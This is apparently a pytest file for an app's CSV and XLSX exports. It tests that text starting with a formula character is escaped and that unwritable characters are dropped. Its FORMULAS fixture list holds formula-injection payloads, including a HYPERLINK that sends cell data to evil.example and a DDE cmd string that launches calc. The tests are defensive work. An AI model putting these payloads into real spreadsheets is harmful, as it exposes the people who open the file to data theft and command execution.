"""Whatever text is stored, every CSV and XLSX is written: no failure, no formula, no control."""

import csv
import io
from datetime import datetime, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.clock import REPORTING_TZ
from app.exports.writers import Column, Table, csv_chunks, write_xlsx
from app.models import Park, ProgressEntry, Project
from tests import factories

# Text a spreadsheet runs as a formula, after OWASP's list of leading characters.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+1+2",
    "-1+2",
    '@SUM(1+2)*cmd|" /C calc"!A0',
    "\t=1+2",
    "\r=1+2",
    "\t高新区",
    "\r高新区",
    "=1+2",
]
# Characters a worksheet cannot hold, as an older database or `portfolio import` may have them.
UNWRITABLE = "甲\x01乙\x0b丙\x1b丁\x7f戊\x85己\x9b庚\uffff辛"
CLEANED = "甲乙丙丁戊己庚辛"
_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _today():
    return datetime.now(REPORTING_TZ).date()


EXPORTS = [
    "/api/v1/projects?park=gaoxin",
    "/api/v1/rollups?by=park,category",
    "/api/v1/reports/reconciliation",
    "/api/v1/reports/compliance?period={period}",
    "/api/v1/reports/changes?from_date={year_ago}&to_date={today}",
    "/api/v1/reports/blockers",
]
# Which of the stored texts each export shows.
SHOWN = {
    "projects": {"park", "name", "content", "note", "issues"},
    "rollups": {"park"},
    "reconciliation": set(),
    "compliance": {"park"},
    "changes": {"park"},
    "blockers": {"park", "name", "issues", "reporter"},
}


def store(session, client, auth, texts):
    """Put the texts into park gaoxin and a project made in it, behind every check, as old
    data is."""
    code = factories.project(session).code  # park gaoxin
    response = client.post(
        f"/api/v1/projects/{code}/progress",
        json={"as_of": _today().isoformat(), "status": "under_construction", "issues": "x"},
        headers=auth("admin"),
    )
    assert response.status_code == 201, response.text
    entry_id = response.json()["id"]
    session.exec(sa.update(Park).where(Park.id == "gaoxin").values(name=texts["park"]))
    session.exec(
        sa.update(Project)
        .where(Project.code == code)
        .values(name=texts["name"], content=texts["content"])
    )
    session.exec(
        sa.update(ProgressEntry)
        .where(ProgressEntry.id == entry_id)
        .values(note=texts["note"], issues=texts["issues"], reporter_name=texts["reporter"])
    )
    session.commit()


def _path(template):
    today = _today()
    return template.format(
        period=today.strftime("%Y-%m"),
        today=today.isoformat(),
        year_ago=(today - timedelta(days=365)).isoformat(),
    )


def _get(client, headers, path, fmt):
    separator = "&" if "?" in path else "?"
    response = client.get(f"{path}{separator}format={fmt}", headers=headers)
    assert response.status_code == 200, response.text
    return response.content


def xlsx_cells(content):
    """Every cell of every sheet, as (value, data_type)."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def csv_fields(content):
    assert content.startswith(b"\xef\xbb\xbf")
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [field for row in rows for field in row]


def as_xml_reads(text):
    # XML reads every line end as "\n"; a spreadsheet cell keeps line breaks that way.
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _number(field):
    try:
        float(field)
    except ValueError:
        return False
    return True


def assert_safe_csv(fields):
    """No field a spreadsheet would evaluate: text starts with a quote, numbers are numbers."""
    for field in fields:
        assert not field.startswith(_DANGEROUS) or _number(field), repr(field)


def assert_safe_xlsx(cells):
    assert cells
    assert all(data_type != "f" for _, data_type in cells), cells


def texts_of(marker):
    return {
        key: f"{marker}{suffix}"
        for key, suffix in (
            ("park", "园区"),
            ("name", "项目"),
            ("content", "建设内容"),
            ("note", "形象进度"),
            ("issues", "存在问题"),
            ("reporter", "填报人"),
        )
    }


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("path", EXPORTS, ids=lambda p: p.split("?")[0].rsplit("/", 1)[1])
def test_text_is_never_a_formula_in_any_export(client, auth, session, path, formula):
    texts = texts_of(formula)
    store(session, client, auth, texts)
    shown = SHOWN[path.split("?")[0].rsplit("/", 1)[1]]
    expected = {texts[key] for key in shown}

    fields = csv_fields(_get(client, auth(), _path(path), "csv"))
    assert_safe_csv(fields)
    # OWASP: the cell is prefixed with a single quote and otherwise as stored.
    assert {"'" + text for text in expected} <= set(fields)

    cells = xlsx_cells(_get(client, auth(), _path(path), "xlsx"))
    assert_safe_xlsx(cells)
    values = {value for value, _ in cells}
    assert {as_xml_reads(text) for text in expected} <= values


@pytest.mark.parametrize("path", EXPORTS, ids=lambda p: p.split("?")[0].rsplit("/", 1)[1])
def test_numbers_stay_numbers(client, auth, session, path):
    store(session, client, auth, texts_of("正常"))
    fields = csv_fields(_get(client, auth(), _path(path), "csv"))
    assert not any(f.startswith("'") for f in fields)
    cells = xlsx_cells(_get(client, auth(), _path(path), "xlsx"))
    assert any(isinstance(value, int) for value, _ in cells)
    assert all(data_type == "s" for value, data_type in cells if isinstance(value, str))


def test_negative_differences_are_numbers_in_the_reconciliation(client, auth):
    rows = list(
        csv.reader(
            io.StringIO(
                _get(client, auth(), "/api/v1/reports/reconciliation", "csv").decode("utf-8-sig")
            )
        )
    )
    assert rows[-1][7:9] == ["-1", "283000"]
    book = load_workbook(io.BytesIO(_get(client, auth(), "/api/v1/reports/reconciliation", "xlsx")))
    last = list(book.active.iter_rows(values_only=True))[-1]
    assert last[7] == -1


@pytest.mark.parametrize("path", EXPORTS, ids=lambda p: p.split("?")[0].rsplit("/", 1)[1])
def test_unwritable_characters_are_dropped_not_a_500(client, auth, session, engine_name, path):
    # PostgreSQL stores no NUL at all; SQLite does.
    stored = UNWRITABLE + ("\x00" if engine_name == "sqlite" else "")
    texts = texts_of(stored)
    store(session, client, auth, texts)
    shown = SHOWN[path.split("?")[0].rsplit("/", 1)[1]]
    expected = {texts_of(CLEANED)[key] for key in shown}

    fields = csv_fields(_get(client, auth(), _path(path), "csv"))
    assert expected <= set(fields)
    assert not any(stored in field for field in fields)

    values = {value for value, _ in xlsx_cells(_get(client, auth(), _path(path), "xlsx"))}
    assert expected <= values


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_report_template_holds_text_not_formulas(client, auth, session, formula):
    texts = texts_of(formula)
    store(session, client, auth, texts)
    for path in (
        "/api/v1/parks/gaoxin/report-template",
        f"/api/v1/parks/gaoxin/report-template?period={_today():%Y-%m}",
    ):
        response = client.get(path, headers=auth())
        assert response.status_code == 200, response.text
        cells = xlsx_cells(response.content)
        assert_safe_xlsx(cells)
        values = {value for value, _ in cells}
        expected = {texts[key] for key in ("park", "name", "note", "issues")}
        assert {as_xml_reads(text) for text in expected} <= values


def test_the_report_template_drops_unwritable_characters(client, auth, session):
    store(session, client, auth, texts_of(UNWRITABLE))
    response = client.get("/api/v1/parks/gaoxin/report-template", headers=auth())
    assert response.status_code == 200, response.text
    values = {value for value, _ in xlsx_cells(response.content)}
    cleaned = texts_of(CLEANED)
    assert {cleaned[key] for key in ("park", "name", "note", "issues")} <= values


def test_the_writers_treat_headers_totals_and_notes_alike(tmp_path):
    table = Table(
        title="=标题",
        columns=[Column("=列"), Column("数")],
        rows=[["=1+2", -5], ["-x", 3.5]],
        totals=["@合计", -2],
        notes=["=说明"],
    )
    fields = csv_fields(b"".join(csv_chunks(table)))
    assert fields == ["'=列", "数", "'=1+2", "-5", "'-x", "3.5", "'@合计", "-2"]
    table.rows = [["=1+2", -5], ["-x", 3.5]]
    path = tmp_path / "t.xlsx"
    write_xlsx(table, str(path))
    cells = xlsx_cells(path.read_bytes())
    assert_safe_xlsx(cells)
    assert [v for v, _ in cells] == ["=列", "数", "=1+2", -5, "-x", 3.5, "@合计", -2, "=说明"]
